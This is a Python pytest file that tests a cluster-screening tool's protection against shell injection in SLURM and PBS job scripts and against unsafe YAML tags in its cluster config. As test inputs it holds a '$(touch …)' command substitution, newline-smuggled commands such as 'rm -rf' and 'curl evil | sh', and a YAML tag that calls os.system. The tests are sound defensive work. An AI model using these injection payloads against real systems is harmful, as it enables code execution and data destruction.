"""What goes into a batch job's script is data: an ``--out`` path is one literal argument there, and
a cluster-config value cannot add lines to it (rendered with ``cluster.job_script()``, nothing is
submitted)."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
import yaml
from typer.testing import CliRunner

from electroscreen.cli import app
from electroscreen.experiments.config_files import ConfigError
from electroscreen.screening.cluster import load_cluster_config, make_cluster
from electroscreen.screening.job_submission import close_credentials, credentials_folder

from .conftest import POOL_FORMULAS

pytest.importorskip("dask_jobqueue", reason="pip install 'electroscreen[cluster]'")

OPTIONS = {"queue": "cpu", "cores": 1, "memory": "1GB", "walltime": "00:10:00", "interface": "lo"}


def _arguments(command: str, cwd: Path) -> list[str]:
    """The arguments bash makes of a job script's worker command (run with printf, not python)."""
    shown = subprocess.run(
        ["bash", "-c", f'show() {{ printf "%s\\0" "$@"; }}; show {command}'],
        cwd=cwd, capture_output=True, text=True, check=True,
    )  # fmt: skip
    return shown.stdout.split("\0")[:-1]


@pytest.mark.parametrize("kind", ["slurm", "pbs"])
def test_an_out_path_with_a_space_and_a_command_is_one_literal_argument(tmp_path, kind):
    """``--out 'o $(touch X)/run'`` ran ``touch`` on the compute node, and a space split the
    credentials' path in two, so that the workers never started (the screening waited forever)."""
    out = tmp_path / "o $(touch INJECTED)" / "run"
    out.mkdir(parents=True)
    with credentials_folder(str(out)) as folder:  # what `screen --cluster` does with --out
        cluster = make_cluster(kind, {**OPTIONS, "shared_temp_directory": folder})
        try:
            with cluster:
                script = cluster.job_script()
                worker = next(line for line in script.splitlines() if "dask_worker" in line)
                arguments = _arguments(worker, tmp_path)
                assert not (tmp_path / "INJECTED").exists()
                assert arguments[:3] == [sys.executable, "-m", "distributed.cli.dask_worker"]
                for option in ("--tls-ca-file", "--tls-cert", "--tls-key"):
                    path = Path(arguments[arguments.index(option) + 1])
                    assert path.parent == Path(folder) and path.parent.parent == out
                    assert path.is_file(), (option, str(path))
        finally:
            close_credentials(cluster, folder)
    assert not (tmp_path / "INJECTED").exists()


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("account", "proj\nrm -rf ~/not-really"),
        ("walltime", "00:10:00\r\nhostname"),
        ("job_extra_directives", ["--constraint=a", "--qos=x\0y"]),
        ("job_script_prologue", ["module load x\ncurl evil | sh"]),
        ("scheduler_options", {"dashboard_address": "127.0.0.1:0\nx"}),
    ],
)
def test_a_cluster_config_value_with_a_line_break_or_nul_is_refused_naming_its_key(
    tmp_path, key, value
):
    """A newline in ``account`` became a shell line of the job script."""
    path = tmp_path / "slurm.yaml"
    path.write_text(yaml.safe_dump({**OPTIONS, key: value}))
    with pytest.raises(ConfigError, match=f"'{key}'") as refused:
        load_cluster_config(path)
    assert str(path) in str(refused.value)
    with pytest.raises(ConfigError, match=f"'{key}'"):
        load_cluster_config({**OPTIONS, key: value})  # the Python API's mapping: the same check
    assert load_cluster_config({**OPTIONS, "job_script_prologue": ["a", "b"]})["cores"] == 1


def test_a_python_tag_in_the_cluster_config_is_an_error_line_not_a_traceback(tmp_path):
    """``!!python`` was refused by safe_load (nothing ran) but printed a traceback, exit 1."""
    marker = tmp_path / "YAML_PWNED"
    config = tmp_path / "evil_cluster.yaml"
    config.write_text(f'cores: !!python/object/apply:os.system ["touch {marker}"]\n')
    pool = tmp_path / "pool.csv"
    pd.DataFrame({"formula": POOL_FORMULAS}).to_csv(pool, index=False)
    out = tmp_path / "o"
    result = CliRunner().invoke(
        app, ["screen", str(pool), "--out", str(out), "--cluster", "local", "--jobs", "1",
              "--cluster-config", str(config), "--tracking-uri", f"sqlite:///{tmp_path / 'm.db'}"],
    )  # fmt: skip
    assert result.exit_code == 2, result.output
    assert "error:" in result.stderr and "not valid YAML" in result.stderr
    assert str(config) in result.stderr and "Traceback" not in result.output
    assert not marker.exists() and not out.exists()
